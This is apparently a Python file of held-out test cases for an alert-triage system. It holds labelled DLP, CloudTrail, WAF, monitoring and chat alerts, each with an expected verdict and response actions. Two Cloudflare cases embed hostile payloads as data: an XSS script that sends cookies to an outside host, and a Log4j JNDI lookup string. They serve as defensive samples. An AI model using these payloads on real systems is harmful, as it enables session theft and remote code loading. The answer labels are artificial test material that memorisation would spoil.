"""Held-out split, part 2 (never read while tuning rules): Purview DLP, Code42 Incydr, CloudTrail
events, Cloudflare WAF, Datadog, Grafana, Pingdom, Opsgenie-forwarded alerts, chat reports."""

from __future__ import annotations

from typing import Any

from tests.data.triage.held_out_security import entra
from tests.data.triage.labels import Case, case

MAL, SUS, BEN, UNK = "malicious", "suspicious", "benign", "unknown"
AVAIL, PERF = "availability", "performance"
PAGE = ["notify"]
PAGE_RESTART = ["notify", "restart_service"]


def purview(n: int, policy: str, user: str, expected: tuple[str, str, list[str]], **more: Any) -> Case:
    return case(
        f"ho-pv-{n:03d}",
        "Microsoft Purview DLP",
        expected,
        title=f"DLP policy match: {policy}",
        description=more.pop("description"),
        severity=more.pop("severity", "medium"),
        type="data_loss",
        source="purview",
        raw_data={"PolicyName": policy, "UserId": user, "Workload": more.pop("workload", "Exchange"), **more},
    )


PURVIEW = [
    purview(
        1,
        "EU GDPR - high volume",
        "c.dubois@acmewidgets.io",
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        severity="high",
        description="c.dubois sent 4 emails with 12,000 customer "
        "records (names, IBANs, dates of birth) to c.dubois.perso@proton.me, her personal address, at 22:50.",
        SensitiveInfoTypes=["EU IBAN", "EU national ID"],
        Recipients=["c.dubois.perso@proton.me"],
    ),
    purview(
        2,
        "U.S. Financial Data",
        "billing-bot@acmewidgets.io",
        (BEN, "data_exfiltration", []),
        severity="low",
        description="Monthly invoices to customers contain account numbers; sent by the billing system to the "
        "customers themselves, as every month.",
        workload="Exchange",
    ),
    purview(
        3,
        "Source code to unmanaged cloud",
        "a.rossi@acmewidgets.io",
        (SUS, "data_exfiltration", ["notify"]),
        workload="Endpoint",
        description="Endpoint DLP: a.rossi copied src/ of the payments service to a "
        "Box personal account via browser upload (420 MB).",
        TargetDomain="app.box.com",
    ),
    purview(
        4,
        "Confidential label - external share",
        "m.tan@acmewidgets.io",
        (BEN, "data_exfiltration", []),
        severity="low",
        workload="SharePoint",
        description="Confidential contract shared with the customer's "
        "legal team (lawfirm-partner.com); allowed by the client-collaboration exception, approved by legal.",
    ),
    purview(
        5,
        "Credit card numbers - bulk",
        "j.nakamura@acmewidgets.io",
        (SUS, "data_exfiltration", ["notify"]),
        description="Excel export with 3,400 card numbers copied to a USB removable drive from FIN-PC-044.",
        workload="Endpoint",
    ),
]


def incydr(n: int, risk: str, user: str, expected: tuple[str, str, list[str]], **more: Any) -> Case:
    return case(
        f"ho-c42-{n:03d}",
        "Code42 Incydr",
        expected,
        title=f"Incydr alert: {risk} - {user}",
        description=more.pop("description"),
        severity=more.pop("severity", "high"),
        source="code42",
        raw_data={"riskIndicator": risk, "actor": user, **more},
    )


INCYDR = [
    incydr(
        1,
        "Departing employee - cloud upload",
        "p.schmidt@acmewidgets.io",
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        description="Departing employee (last day "
        "Friday) moved 6.2 GB incl. customer_pricing.xlsx and roadmap decks to a personal Dropbox after hours.",
        totalBytes=6_657_199_308,
        destination="dropbox.com",
    ),
    incydr(
        2,
        "Git push to untrusted domain",
        "d.novak@acmewidgets.io",
        (SUS, "data_exfiltration", ["notify"]),
        severity="medium",
        description="git push of the 'mobile-app' repository to gitlab.com/dnovak-personal, not the company GitLab.",
        destination="gitlab.com",
    ),
    incydr(
        3,
        "Large file activity",
        "backup-svc@acmewidgets.io",
        (BEN, "data_exfiltration", []),
        severity="low",
        description="1.8 TB written by the nightly Veeam job to the backup repository backup.acmewidgets.io, "
        "same as every night.",
        totalBytes=1_979_120_929_996,
    ),
    incydr(
        4,
        "Zip file upload to file sharing",
        "r.haas@acmewidgets.io",
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        description="r.haas zipped the HR share (payroll, performance reviews) "
        "into hr_all.zip and uploaded it to gofile.io at 03:12.",
        totalBytes=2_200_000_000,
        destination="gofile.io",
    ),
]


def cloudtrail(n: int, event: str, expected: tuple[str, str, list[str]], **detail: Any) -> Case:
    identity = detail.pop("identity")
    return case(
        f"ho-ct-{n:03d}",
        "AWS CloudTrail (EventBridge rule)",
        expected,
        title=detail.pop("title", f"CloudTrail: {event} by {identity.split('/')[-1]}"),
        description=detail.pop("description"),
        severity=detail.pop("severity", "medium"),
        source="cloudtrail",
        raw_data={
            "detail-type": "AWS API Call via CloudTrail",
            "detail": {
                "eventName": event,
                "userIdentity": {"arn": identity},
                "sourceIPAddress": detail.pop("ip", "10.0.0.5"),
                **detail,
            },
        },
    )


ACCOUNT = "arn:aws:iam::210987654321"
CLOUDTRAIL = [
    cloudtrail(
        1,
        "StopLogging",
        (MAL, "generic", ["disable_user", "block_ip"]),
        identity=f"{ACCOUNT}:user/ops-legacy",
        ip="194.87.82.10",
        severity="high",
        description="ops-legacy, unused for 200 days, stopped the "
        "organisation trail from an address in a hosting provider, then listed all S3 buckets.",
    ),
    cloudtrail(
        2,
        "ConsoleLogin",
        (SUS, "generic", []),
        identity=f"{ACCOUNT}:root",
        ip="88.201.4.17",
        description="Root user console login without MFA from an ISP address; nobody announced root use.",
        additionalEventData={"MFAUsed": "No"},
    ),
    cloudtrail(
        3,
        "PutBucketPolicy",
        (BEN, "generic", []),
        identity=f"{ACCOUNT}:role/terraform-apply",
        severity="low",
        description="terraform-apply changed the policy of static-site-assets (public "
        "read for the website CDN) in pipeline run 1203, change CHG-4471.",
    ),
    cloudtrail(
        4,
        "CreateUser",
        (MAL, "generic", ["disable_user"]),
        identity=f"{ACCOUNT}:user/ci-bot",
        ip="45.140.17.9",
        severity="high",
        description="ci-bot's access key, used from outside our CI, "
        "created IAM user 'support-backup' and attached AdministratorAccess: persistence by an attacker.",
    ),
    cloudtrail(
        5,
        "GetObject",
        (MAL, "data_exfiltration", ["disable_user", "block_ip"]),
        identity=f"{ACCOUNT}:user/partner-sftp",
        ip="5.255.99.140",
        severity="high",
        title="CloudTrail data events: 96,000 GetObject on customer-invoices by partner-sftp",
        description="partner-sftp read 96,000 objects (38 GB) of customer-invoices in 25 minutes from an "
        "address never used by the partner; usual volume is 200 objects a day.",
        bytes_transferred=40_802_189_312,
    ),
    cloudtrail(
        6,
        "RunInstances",
        (SUS, "generic", []),
        identity=f"{ACCOUNT}:user/dev-sandbox",
        ip="31.41.244.12",
        description="dev-sandbox launched 24 p4d.24xlarge GPU instances in ap-southeast-3, a "
        "region we never use; possible cryptomining with stolen keys - owner not reachable yet.",
    ),
    cloudtrail(
        7,
        "DeleteDetector",
        (MAL, "generic", ["disable_user"]),
        identity=f"{ACCOUNT}:role/ReadOnly-Audit",
        ip="185.196.8.22",
        severity="high",
        description="GuardDuty detector deleted by an assumed "
        "read-only audit role whose trust policy had been modified an hour earlier.",
    ),
    cloudtrail(
        8,
        "AuthorizeSecurityGroupIngress",
        (BEN, "generic", []),
        identity=f"{ACCOUNT}:user/k.singh",
        severity="low",
        description="k.singh opened 443 from the office range 81.143.0.0/24 on the staging "
        "load balancer, as requested in ticket NET-311.",
    ),
]


def cloudflare(n: int, rule: str, path: str, ip: str, expected: tuple[str, str, list[str]], **more: Any) -> Case:
    return case(
        f"ho-cf-{n:03d}",
        "Cloudflare WAF",
        expected,
        title=more.pop("title", f"Cloudflare firewall event: {rule}"),
        description=more.pop("description", f"Cloudflare {more.get('action', 'block')} of {ip} on {path}."),
        severity=more.pop("severity", "medium"),
        source="cloudflare",
        raw_data={
            "ruleId": rule,
            "clientRequestPath": path,
            "clientIP": ip,
            "action": more.pop("action", "block"),
            **more,
        },
    )


CLOUDFLARE = [
    cloudflare(
        1,
        "100016: Version Control - Information Disclosure",
        "/.git/config",
        "138.68.77.12",
        (BEN, "generic", []),
        severity="low",
        clientCountryName="DE",
        count=3,
        description="Three requests for /.git/config blocked; typical internet scanning, nothing exposed.",
    ),
    cloudflare(
        2,
        "100173: XSS, HTML Injection - Script Tag",
        "/support?msg=<script>fetch('//x.hy.cx/'+document.cookie)</script>",
        "23.94.56.201",
        (MAL, "generic", ["block_ip"]),
        count=640,
        description="640 XSS payloads in 10 minutes from one address against the support form, all blocked.",
    ),
    cloudflare(
        3,
        "Rate limiting rule: /api/login",
        "/api/login",
        "104.234.140.18",
        (MAL, "brute_force", ["block_ip"]),
        severity="high",
        count=22000,
        description="22,000 POST /api/login from 104.234.140.18 in 15 minutes, "
        "1,800 different usernames; 401 for nearly all.",
    ),
    cloudflare(
        4,
        "HTTP DDoS attack protection",
        "/",
        "many",
        (MAL, AVAIL, ["notify"]),
        severity="high",
        title="Cloudflare: HTTP DDoS attack mitigated on shop.acmewidgets.io",
        description="HTTP flood peaking at 2.3M rps from 12,000 addresses; origin 5xx rose to 18% before "
        "mitigation settled.",
        action="managed_challenge",
        peak_rps=2300000,
    ),
    cloudflare(
        5,
        "100201: Log4j Headers",
        "/",
        "167.99.4.31",
        (MAL, "generic", ["block_ip"]),
        description="User-Agent ${jndi:ldap://167.99.4.31:1389/Exploit} (CVE-2021-44228) blocked; 44 hosts "
        "of ours probed.",
        count=44,
    ),
    cloudflare(
        6,
        "Bot Fight Mode",
        "/catalog",
        "66.249.79.12",
        (BEN, "generic", []),
        severity="low",
        action="managed_challenge",
        description="Verified Googlebot challenged on /catalog after the bot "
        "setting change; SEO team asks to allow it.",
    ),
]

CHAT_OTHER = [
    case(
        "ho-chat-007",
        "User report (Slack)",
        (UNK, "generic", []),
        title="hmm",
        description="not sure if this is a security thing but something looked off in the admin panel earlier",
        severity="low",
        source="slack",
    ),
    case(
        "ho-chat-008",
        "User report (Teams chat)",
        (SUS, "generic", []),
        title="USB device in meeting room",
        description="found a small USB thing plugged into the back of the meeting room PC in 3.14, looks like a "
        "keyboard adapter but nobody uses a keyboard there",
        severity="medium",
        source="teams",
    ),
    case(
        "ho-chat-009",
        "User report (Slack)",
        (SUS, "data_exfiltration", ["notify"]),
        title="ex-colleague still has access?",
        description="Tom left 2 weeks ago but I just saw him edit our customer list in the shared drive "
        "(activity log says 10 min ago)",
        severity="high",
        source="slack",
    ),
]


def datadog(n: int, monitor: str, query: str, value: str, expected: tuple[str, str, list[str]], **more: Any) -> Case:
    return case(
        f"ho-dd-{n:03d}",
        "Datadog monitor",
        expected,
        title=f"[Triggered] {monitor}",
        description=more.pop("description", f"{monitor}: {query} = {value}."),
        severity=more.pop("severity", "high"),
        source="datadog",
        raw_data={"monitor_name": monitor, "query": query, "value": value, "alert_transition": "Triggered", **more},
    )


DATADOG = [
    datadog(
        1,
        "Checkout service p95 latency is high",
        "avg(last_10m):p95:trace.http.request{service:checkout}",
        "3.8s",
        (BEN, PERF, PAGE),
        service="checkout",
    ),
    datadog(
        2,
        "Payments API error rate above 10%",
        "sum:trace.http.request.errors{service:payments-api}.as_rate()",
        "27%",
        (BEN, AVAIL, PAGE_RESTART),
        service="payments-api",
    ),
    datadog(
        3,
        "Disk space low on log-agg-2",
        "avg:system.disk.in_use{host:log-agg-2}",
        "0.97",
        (BEN, PERF, PAGE),
        description="Disk in use 97% on log-agg-2 (/var/log).",
    ),
    datadog(
        4,
        "Synthetics: Login page",
        "synthetics.http.response.status_code",
        "503",
        (BEN, AVAIL, PAGE),
        severity="critical",
        description="Browser test 'Login page' failing from 9/9 locations: HTTP 503.",
    ),
    datadog(
        5,
        "JVM heap near limit on orders-service",
        "avg:jvm.heap_memory{service:orders}/jvm.heap_memory_max",
        "0.96",
        (BEN, PERF, PAGE),
        service="orders-service",
        description="Heap 96%, full GCs every 20s, response times up 4x.",
    ),
    datadog(
        6,
        "RDS replica lag",
        "aws.rds.replica_lag{dbinstanceidentifier:analytics-replica}",
        "920",
        (BEN, PERF, []),
        severity="medium",
        description="Replica lag 920s on analytics-replica during the "
        "scheduled nightly ETL; recovers by itself every night.",
    ),
    datadog(
        7,
        "Pods not ready in prod",
        "kubernetes_state.deployment.replicas_unavailable{env:prod}",
        "6",
        (BEN, AVAIL, PAGE_RESTART),
        service="inventory-api",
        description="inventory-api: 6 of 6 replicas unavailable, readiness probe failed after deploy 2026.11.30-2.",
    ),
    datadog(
        8,
        "Queue backlog on email-sender",
        "aws.sqs.approximate_number_of_messages_visible{queuename:email-out}",
        "86000",
        (BEN, PERF, PAGE),
        description="email-out backlog 86,000 and growing; consumers running.",
    ),
    datadog(
        9,
        "Load test: CPU above 90% on perf-env",
        "avg:system.cpu.user{env:perf}",
        "94",
        (BEN, PERF, []),
        severity="low",
        description="CPU 94% in the perf environment during the scheduled k6 load test; expected.",
    ),
]


def grafana(n: int, rule: str, summary: str, expected: tuple[str, str, list[str]], **labels: str) -> Case:
    severity = labels.pop("level", "critical")
    return case(
        f"ho-gf-{n:03d}",
        "Grafana Alerting",
        expected,
        title=f"[FIRING:1] {rule}",
        description=summary,
        severity="critical" if severity == "critical" else "medium",
        source="grafana",
        raw_data={
            "receiver": "oncall",
            "status": "firing",
            "alerts": [{"labels": {"alertname": rule, **labels}, "annotations": {"summary": summary}}],
        },
    )


GRAFANA = [
    grafana(
        1,
        "ApiGatewayDown",
        "api-gateway: 0 healthy instances behind the load balancer; all requests fail.",
        (BEN, AVAIL, PAGE_RESTART),
        service="api-gateway",
    ),
    grafana(
        2,
        "RedisMemoryHigh",
        "sessions-redis memory at 95% of maxmemory, evictions started.",
        (BEN, PERF, PAGE),
        level="warning",
    ),
    grafana(3, "NginxHigh5xx", "edge-nginx returning 504 Gateway Timeout to 22% of requests.", (BEN, AVAIL, PAGE)),
    grafana(
        4,
        "SlowQueries",
        "orders-db: 340 queries over 5 s in the last 10 minutes; p99 query time 12 s.",
        (BEN, PERF, PAGE),
        level="warning",
    ),
    grafana(
        5,
        "CertificateExpired",
        "Certificate for sso.acmewidgets.io expired at 00:00 UTC; browsers refuse the login page.",
        (BEN, AVAIL, PAGE),
    ),
    grafana(
        6,
        "ElasticsearchClusterRed",
        "Cluster logs-es status RED: 14 primary shards unassigned, indexing fails.",
        (BEN, AVAIL, PAGE),
    ),
]


def pingdom(n: int, check: str, error: str, expected: tuple[str, str, list[str]], state: str = "DOWN") -> Case:
    return case(
        f"ho-pd-{n:03d}",
        "Pingdom",
        expected,
        title=f"{check} is {state}",
        description=f"Pingdom uptime check {check}: {state}. {error}",
        severity="critical" if state == "DOWN" else "low",
        source="pingdom",
        raw_data={
            "check_name": check,
            "current_state": state,
            "previous_state": "UP" if state == "DOWN" else "DOWN",
            "long_description": error,
        },
    )


PINGDOM = [
    pingdom(
        1,
        "www.acmewidgets.io",
        "Connection timed out after 30s from Frankfurt, London and Amsterdam.",
        (BEN, AVAIL, PAGE),
    ),
    pingdom(2, "api.acmewidgets.io/health", "HTTP 500 Internal Server Error.", (BEN, AVAIL, PAGE)),
    pingdom(
        3, "docs.acmewidgets.io", "Back up after 3 minutes of downtime; has recovered.", (BEN, AVAIL, []), state="UP"
    ),
    pingdom(4, "status.acmewidgets.io", "DNS resolution failed: NXDOMAIN.", (BEN, AVAIL, PAGE)),
]

CHAT_OPS = [
    case(
        "ho-chat-010",
        "User report (Slack)",
        (BEN, PERF, PAGE),
        title="salesforce crawling",
        description="is it just me or is the CRM painfully slow? every page takes like 15s",
        severity="medium",
        source="slack",
    ),
    case(
        "ho-chat-011",
        "User report (Teams chat)",
        (BEN, AVAIL, PAGE),
        title="can't log into the HR portal",
        description="HR portal shows 'upstream connect error or disconnect/reset before headers' for everyone in "
        "our team",
        severity="high",
        source="teams",
    ),
    case(
        "ho-chat-012",
        "User report (Slack)",
        (BEN, AVAIL, []),
        title="meeting room screen broken",
        description="the TV in room Oslo doesn't turn on",
        severity="low",
        source="slack",
    ),
    case(
        "ho-chat-013",
        "User report (Slack)",
        (BEN, PERF, PAGE),
        title="builds slow",
        description="CI builds take 45 min instead of 10 since this morning, runners look overloaded",
        severity="medium",
        source="slack",
    ),
    case(
        "ho-chat-014",
        "User report (Teams chat)",
        (BEN, AVAIL, PAGE),
        title="shop down?",
        description="customers on twitter say our shop checkout fails with an error page, can someone look",
        severity="high",
        source="teams",
    ),
]

OPSGENIE = [
    case(
        "ho-og-001",
        "Opsgenie (forwarded)",
        (BEN, PERF, PAGE),
        title="High memory on billing-worker",
        description="billing-worker pods at 93% memory, restarts expected soon if it grows.",
        severity="medium",
        source="opsgenie",
        raw_data={"alias": "billing-worker-mem", "priority": "P3", "service": "billing-worker"},
    ),
    case(
        "ho-og-002",
        "Opsgenie (forwarded)",
        (BEN, AVAIL, PAGE_RESTART),
        title="notification-service not responding",
        description="Heartbeat notification-service expired 6 minutes ago; no push notifications sent since.",
        severity="high",
        source="opsgenie",
        raw_data={"alias": "hb-notification-service", "priority": "P1", "service": "notification-service"},
    ),
    case(
        "ho-og-003",
        "Opsgenie (forwarded)",
        (BEN, AVAIL, []),
        title="Scheduled maintenance: DB failover test",
        description="Planned maintenance window 02:00-02:30: database failover test, brief unavailability "
        "of reports expected.",
        severity="low",
        source="opsgenie",
        raw_data={"priority": "P5"},
    ),
]

MORE = [
    datadog(
        10,
        "Lambda duration near timeout",
        "max:aws.lambda.duration{functionname:pdf-render}",
        "28.7s",
        (BEN, PERF, PAGE),
        severity="medium",
        service="pdf-render",
        description="pdf-render runs take 28.7 s of the 30 s timeout since the template change; users wait.",
    ),
    grafana(
        7,
        "NodeCPUSaturated",
        "node ip-10-2-3-4: load average 64 on 16 cores, CPU 99% for 30 minutes.",
        (BEN, PERF, PAGE),
        level="warning",
    ),
    case(
        "ho-og-004",
        "Opsgenie (forwarded)",
        (BEN, PERF, PAGE),
        title="API p99 over SLO",
        description="public-api p99 response time 2.9 s vs SLO 1 s for the last 20 minutes; error rate normal.",
        severity="medium",
        source="opsgenie",
        raw_data={"priority": "P3", "p99_ms": 2900, "service": "public-api"},
    ),
    case(
        "ho-chat-015",
        "User report (Teams chat)",
        (BEN, PERF, []),
        title="laptop fan loud",
        description="my laptop gets really slow and loud when I have 40 chrome tabs open, normal?",
        severity="low",
        source="teams",
    ),
    incydr(
        5,
        "Removable media exfiltration",
        "l.moreno@acmewidgets.io",
        (SUS, "data_exfiltration", ["notify"]),
        severity="medium",
        description="l.moreno copied 3.1 GB of engineering drawings to a SanDisk USB drive; "
        "no ticket, user on leave from next week.",
        totalBytes=3_328_599_654,
        destination="removable media",
    ),
    purview(
        6,
        "Customer data - cloud sync",
        "sync-svc@acmewidgets.io",
        (BEN, "data_exfiltration", []),
        severity="low",
        workload="SharePoint",
        description="The CRM connector synced the customer table to "
        "the corporate SharePoint, the sanctioned destination, as configured by IT.",
    ),
    cloudtrail(
        9,
        "CreateSnapshot",
        (MAL, "data_exfiltration", ["disable_user"]),
        identity=f"{ACCOUNT}:user/ops-legacy",
        ip="194.87.82.10",
        severity="high",
        description="ops-legacy snapshotted the prod-db volume and shared "
        "the snapshot (ModifySnapshotAttribute) with external account 777788889999.",
    ),
    cloudflare(
        7,
        "Credential stuffing (leaked credentials check)",
        "/account/login",
        "many",
        (MAL, "brute_force", ["reset_credentials"]),
        severity="high",
        description="Exposed-credentials check fired on 9,400 "
        "login attempts in an hour, from 3,000 residential proxy IPs; 120 logins succeeded.",
        successful_logins=120,
    ),
    entra(
        11,
        "Failed sign-ins to Azure portal for contractor",
        (SUS, "brute_force", ["reset_credentials"]),
        severity="medium",
        description="26 failed sign-ins (50126) for contractor vgomez from 3 countries within "
        "an hour; account not used since the contract ended.",
        userPrincipalName="vgomez@acmewidgets.io",
        failure_count=26,
    ),
    cloudtrail(
        10,
        "CreateAccessKey",
        (BEN, "generic", []),
        identity=f"{ACCOUNT}:user/k.singh",
        severity="low",
        description="k.singh rotated his own access key (new key created, old deactivated) as the 90-day "
        "rotation reminder asked.",
    ),
    case(
        "ho-chat-016",
        "User report (Slack)",
        (SUS, "generic", ["reset_credentials"]),
        title="shared my screen with password visible",
        description="I shared my screen in a call with an external vendor while my password manager showed the "
        "AWS console password. They might have seen it. user: mtan",
        severity="medium",
        source="slack",
        raw_data={"user": "mtan@acmewidgets.io"},
    ),
]

CASES = [
    *PURVIEW,
    *INCYDR,
    *CLOUDTRAIL,
    *CLOUDFLARE,
    *CHAT_OTHER,
    *DATADOG,
    *GRAFANA,
    *PINGDOM,
    *CHAT_OPS,
    *OPSGENIE,
    *MORE,
]
